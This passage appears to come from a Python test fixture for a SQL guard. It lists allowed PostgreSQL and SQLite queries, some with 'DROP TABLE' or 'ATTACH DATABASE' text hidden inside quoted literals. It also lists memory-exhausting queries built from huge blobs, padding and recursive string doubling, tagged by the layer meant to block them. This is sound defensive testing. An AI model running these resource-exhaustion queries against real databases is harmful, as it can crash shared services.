    "SELECT name\nFROM customers\nWHERE region_id = 1\n",
    "SELECT 1",
    "SELECT max(order_date), min(order_date) FROM orders",
    "SELECT e.name, count(c.customer_id) FROM employees e JOIN customers c "
    "ON c.account_manager_id = e.employee_id GROUP BY e.name ORDER BY 2 DESC NULLS LAST",
    "SELECT o.order_id FROM orders o JOIN invoices i ON i.order_id = o.order_id "
    "WHERE i.due_on < i.paid_on",
    "SELECT r.name, sum(i.amount) FROM regions r JOIN customers c ON c.region_id = r.region_id "
    "JOIN orders o ON o.customer_id = c.customer_id JOIN invoices i ON i.order_id = o.order_id "
    "GROUP BY r.name",
    "SELECT product_id, name FROM products WHERE sku LIKE 'SEN-%' OR category = 'Sensors'",
    "SELECT * FROM customers WHERE created_on > (SELECT min(hired_on) FROM employees)",
    "SELECT * FROM products p WHERE unit_price > (SELECT avg(unit_price) FROM products "
    "WHERE category = p.category)",
    "SELECT title, count(*) FROM employees GROUP BY title HAVING count(*) >= 2 ORDER BY title",
    "SELECT * FROM orders CROSS JOIN regions LIMIT 3",
    "SELECT replace(replace(email, '@', ' at '), '.', ' dot ') FROM employees",
]

LEGIT: list[tuple[str, str]] = [
    *[(dialect, sql) for sql in PORTABLE for dialect in BOTH],
    # --- PostgreSQL only --------------------------------------------------------------
    (PG, "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY unit_price) FROM products"),
    (PG, "SELECT category, percentile_disc(0.9) WITHIN GROUP (ORDER BY amount) FROM "
         "invoices i JOIN orders o USING (order_id) JOIN order_items oi USING (order_id) "
         "JOIN products p USING (product_id) GROUP BY category"),
    (PG, "SELECT c.name, last.order_date FROM customers c CROSS JOIN LATERAL (SELECT "
         "order_date FROM orders o WHERE o.customer_id = c.customer_id ORDER BY order_date "
         "DESC LIMIT 1) last"),
    (PG, "SELECT c.name, x.n FROM customers c LEFT JOIN LATERAL (SELECT count(*) AS n FROM "
         "orders o WHERE o.customer_id = c.customer_id) x ON true"),
    (PG, "SELECT date_trunc('month', CAST(order_date AS DATE)) AS m, count(*) FROM orders "
         "GROUP BY m ORDER BY m"),
    (PG, "SELECT extract(year FROM CAST(order_date AS DATE)) AS y, count(*) FROM orders "
         "GROUP BY y"),
    (PG, "SELECT CAST(due_on AS DATE) - CAST(issued_on AS DATE) AS days FROM invoices"),
    (PG, "SELECT * FROM orders WHERE CAST(order_date AS DATE) > "
         "CAST('2025-12-31' AS DATE) - INTERVAL '90 days'"),
    (PG, "SELECT age(CAST(paid_on AS DATE), CAST(issued_on AS DATE)) FROM invoices "
         "WHERE paid_on IS NOT NULL"),
    (PG, "SELECT to_char(CAST(order_date AS DATE), 'YYYY-MM') FROM orders"),
    (PG, "SELECT '{\"a\": {\"b\": 1}}'::jsonb -> 'a' ->> 'b'"),
    (PG, "SELECT json_build_object('id', customer_id, 'name', name) ->> 'name' FROM customers"),
    (PG, "SELECT row_to_json(c) FROM customers c"),
    (PG, "SELECT jsonb_agg(name) FROM products"),
    (PG, "SELECT string_agg(name, ', ' ORDER BY name) FROM regions"),
    (PG, "SELECT array_agg(DISTINCT category) FROM products"),
    (PG, "SELECT name FROM customers WHERE name ILIKE '%robot%'"),
    (PG, "SELECT DISTINCT ON (customer_id) customer_id, order_date FROM orders "
         "ORDER BY customer_id, order_date DESC"),
    (PG, "SELECT category, sum(unit_price) FROM products GROUP BY ROLLUP (category)"),
    (PG, "SELECT region_id, industry, count(*) FROM customers "
         "GROUP BY GROUPING SETS ((region_id), (industry))"),
    (PG, "SELECT * FROM products ORDER BY unit_price FETCH FIRST 3 ROWS ONLY"),
    (PG, "SELECT * FROM products OFFSET 2 ROWS FETCH NEXT 3 ROWS ONLY"),
    (PG, "SELECT * FROM products LIMIT ALL"),
    (PG, "SELECT g FROM generate_series(1, 5) AS g"),
    (PG, "SELECT current_setting('TimeZone')"),
    (PG, "SELECT now(), current_date"),
    (PG, "SELECT name FROM customers WHERE email ~ '@example\\.com$'"),
    (PG, "SELECT unit_price::numeric(10, 2) FROM products"),
    (PG, "SELECT $$DROP TABLE customers$$ AS quoted"),
    (PG, "SELECT $tag$ $$; DROP TABLE customers; $$ $tag$ AS quoted"),
    (PG, "SELECT E'it\\'s; DROP TABLE t' AS escaped"),
    (PG, "TABLE customers"),
    (PG, "SELECT greatest(1, 2), least(3, 4)"),
    (PG, "(SELECT name FROM customers) UNION (SELECT name FROM employees) LIMIT 5"),
    (PG, "(SELECT name FROM customers ORDER BY name LIMIT 3)"),
    # --- SQLite only ------------------------------------------------------------------
    (LITE, "SELECT json_extract('{\"a\": {\"b\": 1}}', '$.a.b')"),
    (LITE, "SELECT '{\"a\": 1}' -> '$.a', '{\"a\": 1}' ->> '$.a'"),
    (LITE, "SELECT json_object('id', customer_id, 'name', name) FROM customers"),
    (LITE, "SELECT value FROM json_each('[1, 2, 3]')"),
    (LITE, "SELECT json_group_array(name) FROM regions"),
    (LITE, "SELECT group_concat(name, ', ') FROM regions"),
    (LITE, "SELECT strftime('%Y-%m', order_date) AS month, count(*) FROM orders GROUP BY month"),
    (LITE, "SELECT date(order_date, '+30 days') FROM orders"),
    (LITE, "SELECT julianday(due_on) - julianday(issued_on) FROM invoices"),
    (LITE, "SELECT * FROM orders WHERE order_date > date('2025-12-31', '-90 days')"),
    (LITE, "SELECT iif(unit_price > 100, 'high', 'low') FROM products"),
    (LITE, "SELECT printf('%.2f', amount) FROM invoices"),
    (LITE, "SELECT ifnull(paid_on, 'never') FROM invoices"),
    (LITE, "SELECT instr(email, '@') FROM customers"),
    (LITE, "SELECT typeof(amount) FROM invoices LIMIT 1"),
    (LITE, "SELECT * FROM products LIMIT 3, 2"),
    (LITE, "SELECT * FROM products LIMIT -1"),
    (LITE, "SELECT [name] FROM [customers]"),
    (LITE, "SELECT `name` FROM `customers`"),
    (LITE, "SELECT * FROM main.customers"),
    (LITE, "SELECT name FROM customers WHERE name GLOB 'N*'"),
    (LITE, "SELECT total(amount) FROM invoices"),
    (LITE, "SELECT randomblob(4) IS NOT NULL, random() IS NOT NULL"),
    (LITE, "SELECT name FROM customers WHERE name = 'ATTACH DATABASE ''/tmp/x'' AS x'"),
    # SQLite: a CTE may refer to itself or to a later CTE without RECURSIVE
    (LITE, "WITH n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT i FROM n"),
    (LITE, "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a"),
]

# 100 columns of 4,000,000 bytes: each value is under the 4 MiB limit, the row is 400 MB.
_WIDE = ", ".join(f"zeroblob({{n}}) AS c{i}" for i in range(100))

MEMORY_HOGS: list[tuple[str, str, str]] = [
    # --- SQLite: blob makers, printf widths, replace, concatenation, aggregates --------
    (LITE, "guard", "SELECT randomblob(900000000)"),
    (LITE, "guard", "SELECT zeroblob(1000000000)"),
    (LITE, "guard", "SELECT length(hex(zeroblob(5e8)))"),
    (LITE, "guard", "SELECT printf('%900000000d', 1)"),
    (LITE, "guard", "SELECT printf('%*d', 900000000, 1)"),
    (LITE, "guard", "SELECT length(replace(hex(zeroblob(1000000)), '0', hex(zeroblob(500))))"),
    (LITE, "guard", "SELECT " + _WIDE.format(n=4000000)),
    (LITE, "database", "SELECT length(randomblob((SELECT count(*) FROM orders) * 75000))"),
    (LITE, "database", "SELECT length(hex(zeroblob((SELECT max(order_id) FROM orders) * 40000)))"),
    (LITE, "database", "SELECT length(replace(group_concat(name), 'a', hex(zeroblob(100000)))) "
                       "FROM customers"),
    (LITE, "database", "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r "
                       "WHERE length(s) < 1000000000) SELECT max(length(s)) FROM r"),
    (LITE, "database", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n "
                       "WHERE i < 100000) SELECT length(group_concat(hex(randomblob(500)), '')) FROM n"),
    (LITE, "database", "SELECT length(json_group_array(hex(randomblob(1000)))) FROM orders"),
    (LITE, "database", "WITH s(n) AS (SELECT 4000000) SELECT " + _WIDE.format(n="n") + " FROM s"),
    (LITE, "engine", "SELECT zeroblob(4000000) FROM orders"),
    (LITE, "engine", "SELECT hex(randomblob(1500000)) FROM orders"),
    # --- PostgreSQL: repeat, padding, format widths, string_agg, arrays ---------------
    (PG, "guard", "SELECT repeat('x', 1000000000)"),
    (PG, "guard", "SELECT lpad('x', 900000000, 'y')"),
    (PG, "guard", "SELECT rpad('', 900000000)"),
    (PG, "guard", "SELECT format('%900000000s', 'x')"),
    (PG, "guard", "SELECT repeat(repeat('x', 100000), 10000)"),
    (PG, "guard", "SELECT concat(repeat('x', 3000000), repeat('y', 3000000))"),
    (PG, "database", "SELECT repeat('x', (SELECT count(*)::int FROM orders) * 10000)"),
    (PG, "database", "SELECT length(repeat('x', 2000000000 + (SELECT 0)))"),
    (PG, "database", "SELECT lpad('x', (SELECT count(*)::int FROM orders) * 5000)"),
    (PG, "database", "SELECT string_agg(repeat('x', 1000), ',') FROM generate_series(1, 50000)"),
    (PG, "database", "SELECT array_agg(repeat('x', 1000)) FROM generate_series(1, 20000)"),
    (PG, "database", "SELECT replace(string_agg(name, ','), 'a', repeat('b', 100000)) FROM customers"),
    (PG, "database", "WITH RECURSIVE r(s) AS (SELECT 'x'::text UNION ALL SELECT s || s FROM r "
                     "WHERE length(s) < 30000000) SELECT max(s) FROM r"),
    (PG, "database", "SELECT array_fill(1, ARRAY[(SELECT 200000000)])"),
    (PG, "engine", "SELECT repeat('x', 3000000) FROM orders"),
    (PG, "engine", "SELECT repeat(name, 200000) FROM customers"),
]
